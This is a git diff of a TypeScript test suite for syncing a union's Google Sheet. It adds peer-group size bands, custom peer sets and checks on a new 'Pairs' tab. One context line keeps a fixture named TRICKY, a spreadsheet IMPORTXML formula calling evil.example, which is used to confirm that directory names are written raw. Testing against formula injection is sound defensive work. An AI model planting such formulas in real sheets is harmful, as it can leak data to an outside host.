@@ -3,14 +3,17 @@
 import { openCampaign } from "@barometre/functions/campaigns";
 import { saveStructure } from "@barometre/functions/directory";
 import { latestDoc, unionSheetDoc } from "@barometre/functions/layout";
+import { storePeers } from "@barometre/functions/peers";
 import { eraseStructure } from "@barometre/functions/structure-data";
 import { requestSheetSync } from "@barometre/functions/union-sheet/request-sync";
 import { sheetsClient } from "@barometre/functions/union-sheet/sheets-client";
 import { type SheetDeps, syncUnionSheet } from "@barometre/functions/union-sheet/sync";
 import {
+  bandLabel,
   computeIndicators,
   type DemoStructure,
   formatIndicatorValue,
+  formatUnitValue,
   generateNetwork,
   INDICATORS,
   STATUS_LABELS,
@@ -34,6 +37,23 @@ let db: Firestore;
 let api: SheetsServer;
 let deps: SheetDeps;
 
+/** The Union's charges bands, cut at the network's median; no FTE bands (and no previous campaign to default to). */
+const charges = network.structures.map((s) => s.current.finance.chargesTotal as number);
+const cut = Math.round(([...charges].sort((a, b) => a - b)[20] as number) / 1000) * 1000;
+type Band = { min: number; max: number | null };
+const CHARGES: Band[] = [
+  { min: 0, max: cut },
+  { min: cut, max: null },
+];
+/** Custom peer sets: by size band, by territory and size band, named (not applying: anonymous campaign), dropped. */
+const [bySize, byBoth, named, dropped] = network.structures.slice(2, 6) as DemoStructure[];
+const CHOICES = [
+  [bySize, { chargesBand: 0 }],
+  [byBoth, { territory: byBoth?.territory, chargesBand: 1 }],
+  [named, { codes: network.structures.slice(10, 16).map((s) => s.code) }],
+  [dropped, null],
+] as const;
+
 /** A directory name that would run as a formula if the sheet interpreted it. */
 const TRICKY = '=IMPORTXML("http://evil.example";"//a")';
 
@@ -48,7 +68,15 @@ beforeAll(async () => {
     sheets: await sheetsClient({ rootUrl: api.url, auth }),
     spreadsheetId: SHEET,
   };
-  await openCampaign(db, year, {}, "union@pimms.example", new Date());
+  await openCampaign(
+    db,
+    year,
+    { sizeBands: { charges: CHARGES } },
+    "union@pimms.example",
+    new Date(),
+  );
+  for (const [s, choice] of CHOICES)
+    await storePeers(db, year, (s as DemoStructure).code, choice, "d@pimms.example", new Date());
   await Promise.all(
     network.structures.map((s, i) =>
       saveStructure(
@@ -83,7 +111,7 @@ const rowOf = (code: string) =>
   api.tabs.get(`Structures ${year}`)?.values.find((r) => r[0] === code);
 
 describe("syncUnionSheet", () => {
-  it("creates the five tabs once, then writes every row in one RAW values.batchUpdate", async () => {
+  it("creates the six tabs once, then writes every row in one RAW values.batchUpdate", async () => {
     expect(await syncUnionSheet(deps, year)).toBe("written");
     const [get, layout, values] = api.requests;
     expect(api.requests).toHaveLength(3);
@@ -103,6 +131,7 @@ describe("syncUnionSheet", () => {
       `Fragilités ${year}`,
       `Suivi ${year}`,
       `Accompagnement ${year}`,
+      `Pairs ${year}`,
     ]);
     for (const p of added) expect(p.gridProperties.frozenRowCount).toBe(1);
     const formats = layout?.body.requests
@@ -173,6 +202,85 @@ describe("syncUnionSheet", () => {
     const line = network2.find((r) => r[0] === "3. Taux de formation" && r[1] === "Réseau");
     expect(line?.slice(2, 4)).toEqual([40, 40]);
     expect(line?.[6]).toMatch(/^\d+,\d[\u00a0\u202f]%$/);
+  });
+
+  it("shows each structure's size bands, its chosen peer set and its verdicts against its peers", () => {
+    const [head, ...rows] = api.tabs.get(`Pairs ${year}`)?.values ?? [];
+    const at = (title: string) => (head as string[]).indexOf(title);
+    const cell = (code: string, title: string) => rows.find((r) => r[0] === code)?.[at(title)];
+    const inBand = (s: DemoStructure, band: number) =>
+      band === 0
+        ? (s.current.finance.chargesTotal as number) < cut
+        : (s.current.finance.chargesTotal as number) >= cut;
+    expect(rows).toHaveLength(network.structures.length);
+    for (const s of network.structures) {
+      const band = inBand(s, 0) ? 0 : 1;
+      const label = bandLabel("charges", CHARGES[band] as Band);
+      expect(cell(s.code, "Tranche de charges")).toBe(label);
+      expect(cell(s.code, "Structures de la tranche de charges")).toBe(
+        network.structures.filter((o) => inBand(o, band)).length,
+      );
+      expect(cell(s.code, "Tranche d'effectif")).toBe("pas de tranches");
+    }
+    const members = (test: (o: DemoStructure) => boolean) => network.structures.filter(test);
+    const sets = [
+      [bySize, "Critères", members((o) => inBand(o, 0)), bandLabel("charges", CHARGES[0] as Band)],
+      [byBoth, "Critères", members((o) => o.territory === byBoth?.territory && inBand(o, 1)), null],
+    ] as const;
+    for (const [s, kind, group, words] of sets) {
+      const code = (s as DemoStructure).code;
+      expect(cell(code, "Groupe de pairs choisi")).toBe(kind);
+      if (words) expect(cell(code, "Définition du groupe choisi")).toBe(words);
+      expect(cell(code, "Structures du groupe choisi")).toBe(group.length);
+      expect(cell(code, "Choix fait pour la campagne")).toBe(year);
+      expect(cell(code, "Position comparée à")).toBe("Pairs choisis");
+      // Each verdict against an independent reading of the group's values (a chooser need not meet its criteria).
+      const own = computeIndicators((s as DemoStructure).current);
+      for (const def of INDICATORS.filter((d) => d.unit !== "bool")) {
+        const verdict = cell(code, `Position ${def.number}. ${def.name}`);
+        const value = own[def.key].value as number | null;
+        const values = group
+          .map((o) => computeIndicators(o.current)[def.key].value as number | null)
+          .filter((v): v is number => v !== null);
+        if (value === null) expect(verdict).toBe("non comparable : valeur non calculable");
+        else if (values.length < 5) expect(verdict).toMatch(/^non comparable : le groupe/);
+        else if (Math.min(...values) === Math.max(...values))
+          expect(verdict).toBe("au même niveau que toutes");
+        else if (value >= Math.max(...values)) expect(verdict).toBe("au niveau le plus haut");
+        else if (value <= Math.min(...values)) expect(verdict).toBe("au niveau le plus bas");
+        else expect(verdict).toMatch(/^dans (le quart le plus (haut|bas)|la moitié centrale)$/);
+      }
+    }
+    const namedCode = (named as DemoStructure).code;
+    expect(cell(namedCode, "Groupe de pairs choisi")).toBe("Structures nommées");
+    expect(cell(namedCode, "Remarque")).toMatch(/^ne s'applique pas : .*campagne transparente$/);
+    expect(cell(namedCode, "Position comparée à")).toBe(named?.territory);
+    expect(cell((dropped as DemoStructure).code, "Groupe de pairs choisi")).toBe("Non");
+    expect(cell((dropped as DemoStructure).code, "Choix fait pour la campagne")).toBe(year);
+    expect(cell(network.structures[0]?.code as string, "Choix fait pour la campagne")).toBe("");
+  });
+
+  it("gives the Union the size groups' and custom sets' statistics with their extremes", () => {
+    const lines = api.tabs.get(`Réseau ${year}`)?.values ?? [];
+    const small = network.structures.filter(
+      (s) => (s.current.finance.chargesTotal as number) < cut,
+    );
+    const bandLine = lines.find(
+      (r) =>
+        r[0] === "3. Taux de formation" &&
+        r[1] === `Tranche ${bandLabel("charges", CHARGES[0] as Band)}`,
+    );
+    expect(bandLine?.[2]).toBe(small.length);
+    const rates = small.map((s) => computeIndicators(s.current).trainingRate.value as number);
+    expect(bandLine?.[4]).toBe(formatUnitValue("percent", Math.min(...rates)));
+    expect(bandLine?.[8]).toBe(formatUnitValue("percent", Math.max(...rates)));
+    const custom = lines.filter(
+      (r) => r[0] === "3. Taux de formation" && String(r[1]).startsWith("Groupe de pairs choisis"),
+    );
+    expect(custom.map((r) => r[1])).toEqual([
+      expect.stringMatching(new RegExp(`choisi par ${(bySize as DemoStructure).code}$`)),
+      expect.stringMatching(new RegExp(`choisi par ${(byBoth as DemoStructure).code}$`)),
+    ]);
   });
 
   it("calls nothing when nothing changed", async () => {
